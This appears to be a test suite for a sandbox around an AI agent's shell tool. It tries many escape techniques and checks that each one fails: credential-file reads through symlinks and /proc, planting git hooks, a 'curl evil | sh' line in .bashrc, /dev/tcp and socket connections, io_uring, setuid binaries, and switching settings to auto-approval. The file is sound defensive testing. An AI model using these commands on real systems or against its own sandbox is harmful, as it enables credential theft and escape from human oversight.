// The escape catalogue: every attempt runs through the real path (runtime -> tool host -> PTY ->
// bubblewrap -> bash) and is judged by what it did to the host - files written or not, secrets
// leaked or not, connections that reached a host server or not, processes alive or not - never by
// the command's exit status.
import { execFileSync, type ChildProcess } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { chmodSync, copyFileSync, existsSync, mkdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
import { homedir, hostname } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { SandboxedToolRuntime } from './sandboxed-tool-runtime'
import { CountingHttpServer, CountingUnixServer, hostAddress, hostSleeper, processesMatching } from '../../test-support/tools/probes'
import { removeScratch, scratchDir } from '../../test-support/tools/scratch'
import { ioUringConnectCommand } from '../../test-support/tools/syscall-probes'
import type { ToolCallResult } from './tool-runtime'
import { builtinTools } from './builtin'

const tag = randomBytes(4).toString('hex')
const root = scratchDir('escape')
const ws = join(root, 'ws')
const plainWs = join(root, 'plain')
const outside = join(root, 'outside')
const fakeHome = join(root, 'home')
const dataDir = join(root, 'data')
const tokenStore = join(root, 'token-store.json')
const SECRET = `SECRET-KEY-${tag}`
const TOKEN = `TOKEN-${tag}`
const realHomeCanary = join(homedir(), `tether-escape-${tag}`)
/** Credential stores of today's tools; none of them is on the home allowlist, and neither is a tool nobody has heard of. */
const HOME_SECRETS: Record<string, string> = {
  '.ssh/id_test': `${SECRET}\n`,
  '.aws/credentials': `aws_secret_access_key = ${SECRET}\n`,
  '.m2/settings.xml': `<password>${SECRET}</password>\n`,
  '.claude/.credentials.json': `{"token":"${SECRET}"}\n`,
  '.cargo/credentials.toml': `token = "${SECRET}"\n`,
  '.cache/huggingface/token': `${SECRET}\n`,
  '.config/gh/hosts.yml': `oauth_token: ${SECRET}\n`,
  '.tool-invented-next-year/auth': `${SECRET}\n`,
  '.netrc': `machine x password ${SECRET}\n`,
  '.gitconfig': `[user]\n\tname = Pat Person\n\temail = pat@example.invalid\n[url "https://${SECRET}@git.example/"]\n\tinsteadOf = https://git.example/\n[credential]\n\thelper = store\n`
}
const hostPaths = [`/etc/tether-escape-${tag}`, realHomeCanary, `/var/tmp/tether-escape-${tag}`, `/tmp/tether-escape-${tag}`, `/dev/shm/tether-escape-${tag}`]

const http = new CountingHttpServer()
const visibleSocket = new CountingUnixServer(join(outside, 'agent.sock'))
const runSocket = new CountingUnixServer(`/run/tether-test-${tag}.sock`)
const tmpSocketDir = `/tmp/tether-test-${tag}`
const tmpSocket = new CountingUnixServer(join(tmpSocketDir, 'agent.sock'))
const abstractSocket = new CountingUnixServer(`\0tether-test-${tag}`)
let sleeper: ChildProcess
let runtime: SandboxedToolRuntime
let callNumber = 0

function q(value: string): string {
  return `'${value.replaceAll("'", `'\\''`)}'`
}

async function sh(command: string, timeoutMs: number | null = 10_000, runId = 'escape'): Promise<ToolCallResult> {
  callNumber++
  return runtime.execute({ runId, callId: `call-${callNumber}`, call: builtinTools.prepareOrThrow('shell', JSON.stringify({ command, timeout_ms: timeoutMs })) })
}

function fileText(path: string): string | null {
  return existsSync(path) ? readFileSync(path, 'utf8') : null
}

beforeAll(async () => {
  mkdirSync(ws)
  mkdirSync(plainWs)
  mkdirSync(outside)
  for (const [path, text] of Object.entries(HOME_SECRETS)) {
    mkdirSync(join(fakeHome, path, '..'), { recursive: true })
    writeFileSync(join(fakeHome, path), text)
  }
  mkdirSync(join(fakeHome, '.cargo', 'bin'), { recursive: true })
  writeFileSync(join(fakeHome, '.cargo', 'bin', 'tool'), 'a toolchain\n')
  mkdirSync(join(dataDir, 'runs'), { recursive: true })
  writeFileSync(join(dataDir, 'runs', 'run_other.jsonl'), `{"pasted":"${TOKEN}"}\n`)
  mkdirSync(tmpSocketDir, { recursive: true })
  writeFileSync(join(outside, 'target.txt'), 'original\n')
  writeFileSync(tokenStore, `{"key":"${TOKEN}"}\n`)
  writeFileSync(join(dataDir, 'settings.json'), '{}\n')
  writeFileSync(join(dataDir, 'keys.json'), `{"openai":"${TOKEN}"}\n`)
  execFileSync('git', ['init', '-q', ws])
  writeFileSync(join(ws, '.bashrc'), 'echo original rc\n')
  writeFileSync(join(ws, '.mcp.json'), '{}\n')
  mkdirSync(join(ws, '.vscode'))
  mkdirSync(join(ws, 'decoy-hooks'))
  copyFileSync('/bin/bash', join(ws, 'suid-bash'))
  chmodSync(join(ws, 'suid-bash'), 0o4755)
  await Promise.all([http.listen(), visibleSocket.listen(), runSocket.listen(), tmpSocket.listen(), abstractSocket.listen()])
  sleeper = hostSleeper()
  runtime = new SandboxedToolRuntime({ dataDir, home: fakeHome, hiddenPaths: [tokenStore] })
  await runtime.openRun({ runId: 'escape', workspace: ws, artifactsDir: join(root, 'artifacts'), networkAllowlist: [], unsandboxed: false })
})

afterAll(async () => {
  await runtime?.close()
  sleeper?.kill('SIGKILL')
  for (const server of [http, visibleSocket, runSocket, tmpSocket, abstractSocket]) server.close()
  for (const path of [...hostPaths, tmpSocketDir]) rmSync(path, { recursive: true, force: true })
  removeScratch(root)
})

describe('writes outside the workspace leave nothing on the host', () => {
  test.each([
    ['a directory outside the workspace', () => `echo x > ${q(join(outside, 'f1'))}`, () => join(outside, 'f1')],
    ['the real home directory', () => `echo x > ${q(realHomeCanary)}`, () => realHomeCanary],
    ['/etc', () => `echo x > /etc/tether-escape-${tag}`, () => `/etc/tether-escape-${tag}`],
    ['/var/tmp (writable on the host)', () => `echo x > /var/tmp/tether-escape-${tag}`, () => `/var/tmp/tether-escape-${tag}`],
    ['/tmp (the sandbox has its own)', () => `echo x > /tmp/tether-escape-${tag}`, () => `/tmp/tether-escape-${tag}`],
    ['/dev/shm', () => `echo x > /dev/shm/tether-escape-${tag}`, () => `/dev/shm/tether-escape-${tag}`],
    ['through /proc/self/root', () => `echo x > /proc/self/root${q(join(outside, 'f7'))}`, () => join(outside, 'f7')],
    ['through a symlink to a file', () => `ln -s ${q(join(outside, 'f8'))} link8; echo x > link8`, () => join(outside, 'f8')],
    ['through a symlink to a directory', () => `ln -s ${q(outside)} dir9; echo x > dir9/f9`, () => join(outside, 'f9')],
    ['a device node (mknod)', () => 'mknod ./null-device c 1 3', () => join(ws, 'null-device')],
    ['a hard link to a file outside', () => `ln ${q(join(outside, 'target.txt'))} hard11`, () => join(ws, 'hard11')],
    ['a hard link to /etc/passwd', () => 'ln /etc/passwd passwd-link', () => join(ws, 'passwd-link')]
  ])('%s', async (_name, command, target) => {
    await sh(command())
    expect(existsSync(target())).toBe(false)
  })

  test('the file a hard link would share is unchanged', () => {
    expect(fileText(join(outside, 'target.txt'))).toBe('original\n')
  })
})

describe('protected paths inside the workspace stay as they were', () => {
  test('.git/hooks cannot get a hook', async () => {
    await sh('echo "touch /tmp/pwned" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit')
    expect(existsSync(join(ws, '.git/hooks/pre-commit'))).toBe(false)
  })

  test('.git/config cannot be changed, not even through git', async () => {
    const before = fileText(join(ws, '.git/config'))
    await sh("git config core.fsmonitor 'touch /tmp/pwned'; git config core.hooksPath decoy-hooks; echo '[alias] x = !sh' >> .git/config")
    expect(fileText(join(ws, '.git/config'))).toBe(before)
  })

  test('.git cannot be swapped for a decoy (moved away, replaced by a symlink)', async () => {
    const inode = statSync(join(ws, '.git')).ino
    await sh('mv .git .git-moved; rm -rf .git; ln -s decoy-hooks .git; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit')
    expect(statSync(join(ws, '.git')).ino).toBe(inode)
    expect(existsSync(join(ws, '.git-moved'))).toBe(false)
    expect(existsSync(join(ws, '.git/hooks/pre-commit'))).toBe(false)
  })

  test('.git/hooks cannot be replaced by a symlink to a writable decoy', async () => {
    await sh('rm -rf .git/hooks; mv .git/hooks .git/hooks-old; ln -s ../decoy-hooks .git/hooks; echo evil > decoy-hooks/pre-commit')
    expect(statSync(join(ws, '.git/hooks')).isDirectory()).toBe(true)
    expect(existsSync(join(ws, '.git/hooks/pre-commit'))).toBe(false)
  })

  test('shell rc and editor files cannot be planted', async () => {
    await sh('echo "curl evil | sh" >> .bashrc; echo "{}" > .mcp.json; echo "{\\"tasks\\":[]}" > .vscode/tasks.json')
    expect(fileText(join(ws, '.bashrc'))).toBe('echo original rc\n')
    expect(fileText(join(ws, '.mcp.json'))).toBe('{}\n')
    expect(existsSync(join(ws, '.vscode/tasks.json'))).toBe(false)
  })

  test("Tether's data dir cannot be written", async () => {
    await sh(`echo '{"approvalMode":"auto"}' > ${q(join(dataDir, 'settings.json'))}; touch ${q(join(dataDir, 'rules'))}`)
    expect(fileText(join(dataDir, 'settings.json'))).toBe('{}\n')
    expect(existsSync(join(dataDir, 'rules'))).toBe(false)
  })

  test('the workspace itself cannot be renamed away mid-run', async () => {
    await sh(`mv ${q(ws)} ${q(`${ws}-moved`)}`)
    expect(existsSync(ws)).toBe(true)
    expect(existsSync(`${ws}-moved`)).toBe(false)
  })

  test('a workspace without .git or .vscode: neither can be created, and no placeholder is left behind', async () => {
    await runtime.openRun({ runId: 'plain', workspace: plainWs, artifactsDir: join(root, 'artifacts'), networkAllowlist: [], unsandboxed: false })
    await sh('git init -q .; mkdir -p .git/hooks .vscode; echo evil > .git/hooks/pre-commit; echo "{}" > .vscode/tasks.json; echo ok > kept.txt', 10_000, 'plain')
    await runtime.closeRun('plain')
    expect(existsSync(join(plainWs, '.git'))).toBe(false)
    expect(existsSync(join(plainWs, '.vscode'))).toBe(false)
    expect(fileText(join(plainWs, 'kept.txt'))).toBe('ok\n')
  })
})

describe('secrets stay unreadable', () => {
  const key = (): string => join(fakeHome, '.ssh', 'id_test')
  test.each([
    ['directly', () => `cat ${q(key())}`],
    ['through ..', () => `cat ${q(`${ws}/../home/.ssh/id_test`)}`],
    ['through a symlink in the workspace', () => `ln -s ${q(key())} key-link; cat key-link`],
    ['through /proc/self/root', () => `cat /proc/self/root${q(key())}`],
    ['through /proc/1/root', () => `cat /proc/1/root${q(key())}`],
    ['by copying it into the workspace', () => `cp ${q(key())} copied-key; cat copied-key`],
    ["Tether's token store", () => `cat ${q(tokenStore)}`],
    ["the key file in Tether's data dir", () => `cat ${q(join(dataDir, 'keys.json'))}; grep -r openai ${q(dataDir)}`]
  ])('%s', async (_name, command) => {
    const result = await sh(command())
    expect(result.output).not.toContain(SECRET)
    expect(result.output).not.toContain(TOKEN)
    expect(fileText(join(ws, 'copied-key')) ?? '').not.toContain(SECRET)
  })

  test('a secret cannot be moved out of its place', async () => {
    await sh(`mv ${q(key())} ${q(join(ws, 'moved-key'))}; mv ${q(join(fakeHome, '.ssh'))} ${q(join(ws, 'moved-ssh'))}`)
    expect(fileText(key())).toBe(`${SECRET}\n`)
    expect(existsSync(join(ws, 'moved-key'))).toBe(false)
  })
})

describe('secrets by policy: the home is built from an allowlist, the data dir is hidden as a whole', () => {
  test('no credential store of the home is there, listed anywhere or not; the allowlisted toolchain is', async () => {
    const result = await sh(`(cd ${q(fakeHome)} && ls -A; cat .cargo/bin/tool; for f in ${Object.keys(HOME_SECRETS).join(' ')}; do cat "$f"; done; grep -r . ${q(fakeHome)} 2>/dev/null)`)
    expect(result.output).not.toContain(SECRET)
    expect(result.output).toContain('a toolchain')
    expect(result.output.split('\n')[0]).toBe('.cargo\t.gitconfig')
  })

  test("the sandbox's ~/.gitconfig holds only the person's name and email, so commits inside work", async () => {
    const result = await sh('git config --global --list; git -C "$(mktemp -d)" init -q && cd "$_" 2>/dev/null; git var GIT_AUTHOR_IDENT | cut -d" " -f1-3')
    expect(result.output).not.toContain(SECRET)
    expect(result.output).toContain('user.name=Pat Person\nuser.email=pat@example.invalid\n')
  })

  test('a toolchain folder is read-only', async () => {
    await sh(`echo evil > ${q(join(fakeHome, '.cargo', 'bin', 'tool'))}; echo evil > ${q(join(fakeHome, '.cargo', 'bin', 'planted'))}`)
    expect(fileText(join(fakeHome, '.cargo', 'bin', 'tool'))).toBe('a toolchain\n')
    expect(existsSync(join(fakeHome, '.cargo', 'bin', 'planted'))).toBe(false)
  })

  test("keys saved after the shell started, in the home or in Tether's data dir, are not readable either", async () => {
    await sh('true')
    writeFileSync(join(fakeHome, '.ssh', 'id_later'), `${SECRET}-later\n`)
    writeFileSync(join(dataDir, 'keys.json'), `{"openai":"${TOKEN}-later"}\n`)
    writeFileSync(join(dataDir, 'keys.safe.json'), `{"openai":"${TOKEN}-later"}\n`)
    const result = await sh(`cat ${q(join(fakeHome, '.ssh', 'id_later'))} ${q(join(dataDir, 'keys.json'))} ${q(join(dataDir, 'keys.safe.json'))}; grep -r later ${q(dataDir)} ${q(fakeHome)}`)
    expect(result.output).not.toContain('-later')
  })

  test("other runs' logs and everything else in the data dir are hidden", async () => {
    expect((await sh(`ls -A ${q(dataDir)}`)).output).toBe('[exit code 0]')
    const result = await sh(`cat ${q(join(dataDir, 'runs', 'run_other.jsonl'))} ${q(join(dataDir, 'settings.json'))}; grep -r . ${q(dataDir)}`)
    expect(result.output).not.toContain(TOKEN)
  })
})

describe('the network is off', () => {
  test.each([
    ['curl to the host', () => `curl -s -m 2 http://${hostAddress()}:${http.port}/`],
    ['curl to loopback', () => `curl -s -m 2 http://127.0.0.1:${http.port}/`],
    ['bash /dev/tcp', () => `exec 3<>/dev/tcp/${hostAddress()}/${http.port} && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3`],
    ['a raw python socket', () => `python3 -c "import socket; s=socket.create_connection(('${hostAddress()}', ${http.port}), 2); s.send(b'GET / HTTP/1.0\\r\\n\\r\\n'); print(s.recv(100))"`]
  ])('%s does not reach the host server', async (_name, command) => {
    const before = http.hits
    const result = await sh(command())
    expect(http.hits).toBe(before)
    expect(result.output).not.toContain('reached the host')
  })

  test('DNS does not resolve', async () => {
    const result = await sh('getent ahosts registry.npmjs.org; getent hosts localhost.localdomain.example')
    expect(result.output).not.toMatch(/\d+\.\d+\.\d+\.\d+\s+STREAM/)
  })

  test('only a loopback interface exists', async () => {
    const result = await sh("awk -F: 'NR > 2 { gsub(/ /, \"\", $1); print $1 }' /proc/net/dev")
    expect(result.output).toBe('lo\n[exit code 0]')
  })
})

describe('host Unix sockets are unreachable', () => {
  test.each([
    ['one in a visible directory (blocked by seccomp)', () => visibleSocket],
    ['one in /run (docker, dbus, agents)', () => runSocket],
    ['one in /tmp (ssh-agent)', () => tmpSocket]
  ])('%s', async (_name, server) => {
    const socket = server()
    await sh(`python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('${socket.path}'); print(s.recv(10))"`)
    expect(socket.connections).toBe(0)
  })

  test('an abstract socket (network namespace)', async () => {
    await sh(`python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0tether-test-${tag}'.ljust(108, '\\0')); print(s.recv(10))"`)
    expect(abstractSocket.connections).toBe(0)
  })
})

describe('system calls that would get around the socket filter', () => {
  test('io_uring cannot make and connect a Unix socket (checked by its effect on a host socket server)', async () => {
    const probe = ioUringConnectCommand(root, visibleSocket.path)
    expect(probe).not.toBeNull()
    // The probe is real: outside the sandbox it does connect.
    const control = new CountingUnixServer(join(outside, 'control.sock'))
    await control.listen()
    const controlProbe = ioUringConnectCommand(root, control.path)
    if (probe?.kind === 'c') {
      execFileSync('sh', ['-c', controlProbe?.command ?? 'false'], { stdio: 'ignore' })
      for (let waited = 0; control.connections === 0 && waited < 100; waited++) await new Promise((resolve) => setTimeout(resolve, 20))
      expect(control.connections).toBe(1)
    }
    control.close()
    const result = await sh(probe?.command ?? 'false')
    expect(visibleSocket.connections).toBe(0)
    expect(result.output).toContain('io_uring_setup: Operation not permitted')
  })

  test.each([
    ['a vsock socket (reaches the VM host)', 'import socket; socket.socket(40, socket.SOCK_STREAM)', 'Errno 97'],
    ['a packet socket', 'import socket; socket.socket(17, socket.SOCK_RAW)', 'Errno 97'],
    ['terminal input injection (TIOCSTI)', "import fcntl, termios; fcntl.ioctl(0, termios.TIOCSTI, b'x')", 'Errno 1'],
    ['the kernel keyring', `import ctypes; libc = ctypes.CDLL(None, use_errno=True); r = libc.syscall(${process.arch === 'arm64' ? 219 : 250}, 0, -3, 0, 0, 0); raise OSError(ctypes.get_errno(), 'keyctl') if r < 0 else print('KEYRING-REACHED')`, 'Errno 1'],
    ['userfaultfd', `import ctypes; libc = ctypes.CDLL(None, use_errno=True); r = libc.syscall(${process.arch === 'arm64' ? 282 : 323}, 0); raise OSError(ctypes.get_errno(), 'userfaultfd') if r < 0 else print('UFFD-REACHED')`, 'Errno 1']
  ])('%s is refused', async (_name, code, errno) => {
    const result = await sh(`python3 -c ${q(code)}`)
    expect(result.output).toContain(errno)
    expect(result.output).not.toContain('REACHED')
  })
})

describe('with a network allowlist the filter stays on', () => {
  const allowedWs = join(root, 'allowed-ws')
  beforeAll(async () => {
    mkdirSync(allowedWs)
    await runtime.openRun({ runId: 'net', workspace: allowedWs, artifactsDir: join(root, 'net-artifacts'), networkAllowlist: ['allowed.invalid'], unsandboxed: false })
  })
  afterAll(() => runtime.closeRun('net'))

  test('the proxy answers, Unix sockets and io_uring are still refused, and the forwarder is out of reach', async () => {
    const proxied = await sh('curl -s -m 5 http://blocked.invalid/', 10_000, 'net')
    expect(proxied.output).toContain('blocked by the Tether network allowlist: blocked.invalid')
    await sh(`python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('${visibleSocket.path}')"`, 10_000, 'net')
    await sh(ioUringConnectCommand(root, visibleSocket.path)?.command ?? 'false', 10_000, 'net')
    expect(visibleSocket.connections).toBe(0)
    // The forwarder runs in the outer layer: visible, but neither traceable nor readable.
    const forwarder = await sh("pid=$(pgrep -x socat | head -1); cat /proc/$pid/environ >/dev/null 2>&1 && echo READ-ENV; cat /proc/$pid/maps >/dev/null 2>&1 && echo READ-MAPS; echo pid=$pid", 10_000, 'net')
    expect(forwarder.output).toMatch(/pid=\d+/)
    expect(forwarder.output).not.toMatch(/READ-(ENV|MAPS)/)
    const nested = await sh('unshare -Ur true && echo NESTED-NAMESPACE', 10_000, 'net')
    expect(nested.output).not.toContain('NESTED-NAMESPACE')
  })
})

describe('folders that cannot be a workspace', () => {
  test.each([
    ['the home itself', () => fakeHome, 'is your home folder'],
    ['a folder that holds the home', () => root, 'contains your home folder'],
    ["Tether's data dir", () => dataDir, "Tether's data folder"],
    ["a folder inside Tether's data dir", () => join(dataDir, 'runs'), "inside Tether's data folder"],
    ['a symlink to the home', () => join(root, 'link-to-home'), 'is your home folder'],
    ['a system folder', () => '/usr/share', 'inside the system folder /usr']
  ])('%s', async (_name, workspace, reason) => {
    if (!existsSync(join(root, 'link-to-home'))) symlinkSync(fakeHome, join(root, 'link-to-home'))
    await expect(runtime.openRun({ runId: `refused-${callNumber++}`, workspace: workspace(), artifactsDir: join(root, 'refused'), networkAllowlist: [], unsandboxed: false })).rejects.toThrow(reason)
  })
})

describe('no privilege to gain', () => {
  test('no capabilities and no new privileges, even through a setuid-root binary', async () => {
    const plain = await sh("grep -E '^(NoNewPrivs|CapEff|CapBnd)' /proc/self/status")
    expect(plain.output).toMatch(/CapEff:\s+0000000000000000/)
    expect(plain.output).toMatch(/CapBnd:\s+0000000000000000/)
    expect(plain.output).toMatch(/NoNewPrivs:\s+1/)
    const setuid = await sh("./suid-bash -p -c \"grep -E '^CapEff' /proc/self/status\"")
    expect(setuid.output).toMatch(/CapEff:\s+0000000000000000/)
  })

  test('no new user namespace to gain capabilities in', async () => {
    const result = await sh('unshare -Ur cat /proc/self/uid_map && echo NESTED-NAMESPACE')
    expect(result.output).not.toContain('NESTED-NAMESPACE')
  })

  test('the hostname of the host cannot be changed', async () => {
    const before = hostname()
    await sh('hostname tether-pwned 2>&1; echo tether-pwned > /proc/sys/kernel/hostname')
    expect(hostname()).toBe(before)
  })
})

describe('processes', () => {
  test('a host process is neither visible nor killable', async () => {
    const pid = sleeper.pid as number
    const result = await sh(`test -e /proc/${pid}/cmdline && echo VISIBLE; kill -9 ${pid} 2>/dev/null; echo "processes: $(ls /proc | grep -c '^[0-9]')"`)
    expect(result.output).not.toContain('VISIBLE')
    expect(sleeper.exitCode).toBeNull()
    expect(sleeper.signalCode).toBeNull()
    expect(Number(/processes: (\d+)/.exec(result.output)?.[1])).toBeLessThan(10)
  })

  test('setsid, nohup and plain background jobs die when a call times out', async () => {
    const marker = `${Math.floor(Math.random() * 1000) + 1000}.${tag.length}`
    const result = await sh(`setsid sleep ${marker}1 & nohup sleep ${marker}2 >/dev/null 2>&1 & (sleep ${marker}3 &) ; sleep 30`, 500)
    expect(result.status).toBe('timeout')
    expect(processesMatching(`sleep ${marker}`)).toEqual([])
  })

  test('the shell still works after all of the above, in a real terminal', async () => {
    const result = await sh('test -t 1 && echo is-a-tty; echo $((6 * 7))')
    expect(result.output).toBe('is-a-tty\n42\n[exit code 0]')
  })
})
